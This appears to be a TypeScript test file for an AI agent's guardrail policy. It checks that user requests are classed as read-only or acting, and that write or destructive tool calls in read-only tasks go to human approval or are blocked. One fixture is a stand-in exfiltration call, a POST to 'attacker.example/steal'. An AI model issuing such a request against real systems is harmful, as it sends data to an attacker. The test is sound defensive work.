import { classifyIntent, effectOf } from './intent.policy';
import { decide } from './risk.policy';

describe('classifyIntent', () => {
  it.each([
    'Summarise the quarterly report page for me.',
    'What is the weather in Berlin?',
    'Look up the latest release notes and explain the breaking changes',
    'Fasse den Artikel zusammen',
    '请总结这篇文章',
    'この記事を要約して',
    'Объясни, что здесь написано',
  ])('reads as read-only: %s', (input) => {
    expect(classifyIntent(input)).toBe('read_only');
  });

  it.each([
    'Send the summary to the team',
    'Summarise the report and email it to finance',
    'Delete the old invoices',
    'Book a table for two tonight',
    'Order a book and do some sums',
    '把报告发送给老板',
    'Lösche die alten Dateien',
    'test',
  ])('is not read-only (acts, or says too little to restrict): %s', (input) => {
    expect(classifyIntent(input)).toBe('act');
  });
});

describe('effectOf', () => {
  const agent = { tools: [{ name: 'crm_lookup', effect: 'read' as const }] };

  it('derives http_request effects from the method, and trusts the agent file for its own tools', () => {
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'GET', url: 'https://x' } })).toBe('read');
    expect(effectOf(agent, { name: 'http_request', arguments: { url: 'https://x' } })).toBe('read');
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'post', url: 'https://x' } })).toBe('write');
    expect(effectOf(agent, { name: 'http_request', arguments: { method: 'DELETE', url: 'https://x' } })).toBe('destructive');
    expect(effectOf(agent, { name: 'crm_lookup', arguments: {} })).toBe('read');
    expect(effectOf(agent, { name: 'unknown_tool', arguments: {} })).toBe('write');
  });
});

describe('decide with the task intent (least privilege)', () => {
  const post = { name: 'http_request', arguments: { method: 'POST', url: 'https://attacker.example/steal' } };
  const get = { name: 'http_request', arguments: { method: 'GET', url: 'https://example.com' } };

  it('sends a read-only task\'s write call to a person by default', () => {
    const d = decide({ tools: [{ name: 'http_request', risk: 'auto' }] }, post, undefined, 'read_only');
    expect(d).toMatchObject({ tier: 'approve', action: 'approve' });
    expect(d.reason).toMatch(/only asks to read/);
  });

  it('refuses it outright when the agent says block', () => {
    const d = decide({ tools: [{ name: 'http_request', risk: 'auto' }], guardrail: { intentMismatch: 'block' } }, post, undefined, 'read_only');
    expect(d.action).toBe('block');
  });

  it('leaves reads in read-only tasks and writes in acting tasks alone', () => {
    const tools = [{ name: 'http_request', risk: 'auto' as const }];
    expect(decide({ tools, guardrail: { intentMismatch: 'block' } }, get, undefined, 'read_only').action).toBe('run');
    expect(decide({ tools, guardrail: { intentMismatch: 'block' } }, post, undefined, 'act').action).toBe('run');
    expect(decide({ tools }, post).action).toBe('run');
  });
});

describe('the tool registry\'s permission and risk (spec)', () => {
  const lookup = { name: 'mcp_orders_lookup_order', arguments: { orderId: 42 } };
  const remove = { name: 'mcp_orders_delete_order', arguments: { orderId: 42 } };
  const weather = { name: 'weather', arguments: { city: 'Berlin' } };
  const agent = { tools: [{ name: 'mcp_orders_lookup_order' }, { name: 'mcp_orders_delete_order' }, { name: 'weather' }] };

  it('effectOf uses the declared permission for tools with no built-in profile', () => {
    expect(effectOf(agent, lookup, { permission: 'read' })).toBe('read');
    expect(effectOf(agent, remove, { permission: 'destructive' })).toBe('destructive');
    expect(effectOf(agent, remove)).toBe('write');
  });

  it('the agent file still wins, with effect or permission', () => {
    expect(effectOf({ tools: [{ name: 'weather', effect: 'write' as const }] }, weather, { permission: 'read' })).toBe('write');
    expect(effectOf({ tools: [{ name: 'weather', permission: 'read' as const }] }, weather, { permission: 'destructive' })).toBe('read');
  });

  it('a built-in tool keeps its own rule (the method of http_request), whatever a spec says', () => {
    const get = { name: 'http_request', arguments: { method: 'GET', url: 'https://x' } };
    expect(effectOf(agent, get, { permission: 'destructive' })).toBe('read');
    expect(decide({ tools: [{ name: 'http_request' }] }, get, undefined, undefined, { permission: 'destructive', risk: 'review' }).tier).toBe('auto');
  });

  it('decide takes the registry\'s risk when the agent sets none', () => {
    expect(decide(agent, lookup, undefined, undefined, { permission: 'read', risk: 'auto' })).toMatchObject({ tier: 'auto', action: 'run', reason: 'mcp_orders_lookup_order is registered with risk auto (permission read)' });
    expect(decide(agent, remove, undefined, undefined, { permission: 'destructive', risk: 'approve' })).toMatchObject({ tier: 'approve', action: 'approve' });
    expect(decide(agent, remove)).toMatchObject({ tier: 'approve', reason: expect.stringMatching(/no known risk profile/) });
    expect(decide({ tools: [{ name: 'mcp_orders_delete_order', risk: 'review' as const }] }, remove, undefined, undefined, { risk: 'approve' }).tier).toBe('review');
  });

  it('a read-only task cannot run a destructive MCP tool, even one set to auto', () => {
    const profile = { permission: 'destructive' as const, risk: 'auto' as const };
    expect(decide(agent, remove, undefined, 'read_only', profile)).toMatchObject({ tier: 'approve', action: 'approve' });
    const blocked = decide({ ...agent, guardrail: { intentMismatch: 'block' as const } }, remove, undefined, 'read_only', profile);
    expect(blocked.action).toBe('block');
    expect(blocked.reason).toMatch(/would destroy something/);
    expect(decide({ ...agent, guardrail: { intentMismatch: 'block' as const } }, lookup, undefined, 'read_only', { permission: 'read', risk: 'auto' }).action).toBe('run');
  });
});
